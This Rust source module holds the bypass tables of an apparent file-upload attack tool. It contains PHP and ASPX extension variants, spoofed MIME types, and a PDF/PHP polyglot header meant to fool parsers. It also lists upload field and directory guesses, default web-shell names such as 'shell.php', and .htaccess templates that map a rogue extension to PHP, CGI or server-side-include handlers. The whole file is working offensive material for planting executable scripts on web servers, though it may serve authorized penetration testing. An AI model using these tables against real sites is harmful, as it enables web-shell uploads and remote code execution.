//! Bypass tables: extensions, spoofed MIME types, magic bytes and .htaccess
//! directives.

/// PHP-family extensions tried by the basic extension sweep.
pub const PHP_BYPASS_EXTENSIONS: &[&str] = &[
    ".php", ".php3", ".php4", ".php5", ".php7", ".phtml", ".phar", ".inc", ".phps", ".php.bak",
];

pub const ASPX_EXTENSIONS: &[&str] = &[
    ".aspx", ".asp", ".asa", ".asax", ".ascx", ".ashx", ".asmx",
    ".aspx.txt", ".asp.txt", ".aspx.jpg", ".asp.jpg",
    ".ASPX", ".ASP", ".AsPx", ".AsP",
];

/// Declared content types tried one upload each, most permissive filters first.
pub const PRIORITY_CONTENT_TYPES: &[&str] = &[
    "application/pdf",
    "image/jpeg",
    "image/png",
    "application/msword",
    "text/plain",
    "application/octet-stream",
];

pub const PDF_MAGIC: &[u8] = b"%PDF-1.";

/// Minimal PDF header and object so naive parsers accept the file.
pub const PDF_PHP_POLYGLOT_PREFIX: &[u8] = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n";

/// Field names probed when guessing the multipart file field.
pub const UPLOAD_FIELD_NAMES: &[&str] = &[
    "file", "upload", "userfile", "attachment", "document", "image", "photo",
    "avatar", "profile_pic", "logo", "resume", "cv", "report", "data", "import",
    "files[]", "uploads[]", "attachments[]",
];

/// Directories checked for an uploaded file.
pub const COMMON_UPLOAD_DIRS: &[&str] = &[
    "uploads/", "upload/", "files/", "file/", "attachments/", "media/", "images/", "temp/", "tmp/", "",
];

pub const EXECUTION_CHECK_DIRS: &[&str] = &[
    "", "uploads/", "upload/", "files/", "file/", "temp/", "tmp/", "media/", "attachments/", "data/",
];

pub const ASPX_UPLOAD_DIRS: &[&str] = &[
    "", "uploads/", "upload/", "files/", "file/", "temp/", "tmp/", "bin/", "App_Data/",
    "aspnet_client/", "admin/uploads/",
];

/// Locations whose `Server` header reveals an Apache host.
pub const HTACCESS_DETECTION_DIRS: &[&str] = &["uploads/", "upload/", "files/", "temp/", "public/", ""];

/// Filenames hunted by recursive discovery when no payload is given.
pub const DEFAULT_SHELL_NAMES: &[&str] = &["test.php", "test.aspx", "shell.php", "cmd.php", "upload.php"];

/// An .htaccess body and the extension it maps to a script handler.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct HtaccessTemplate {
    pub name: &'static str,
    pub directives: &'static str,
    pub rogue_extension: &'static str,
}

pub const HTACCESS_TEMPLATES: &[HtaccessTemplate] = &[
    HtaccessTemplate {
        name: "AddType + AddHandler",
        directives: "AddType application/x-httpd-php .evil\nAddHandler application/x-httpd-php .evil",
        rogue_extension: ".evil",
    },
    HtaccessTemplate {
        name: "php5-script handler",
        directives: "AddHandler php5-script .evil\nAddType text/html .evil",
        rogue_extension: ".evil",
    },
    HtaccessTemplate {
        name: "Multiple rogue extensions",
        directives: "AddType application/x-httpd-php .evil .rogue .bad\nAddHandler application/x-httpd-php .evil",
        rogue_extension: ".rogue",
    },
    HtaccessTemplate {
        name: "CGI execution",
        directives: "Options +ExecCGI\nAddHandler cgi-script .evil",
        rogue_extension: ".evil",
    },
    HtaccessTemplate {
        name: "Server-side includes",
        directives: "Options +Includes\nAddType text/html .evil\nAddHandler server-parsed .evil",
        rogue_extension: ".evil",
    },
    HtaccessTemplate {
        name: "Rewrite to .php",
        directives: "RewriteEngine On\nRewriteRule ^(.+)\\.evil$ $1.php [L]",
        rogue_extension: ".evil",
    },
];

/// Owned copies of a table, for APIs taking `&[String]`.
pub fn owned(table: &[&str]) -> Vec<String> {
    table.iter().map(|s| s.to_string()).collect()
}
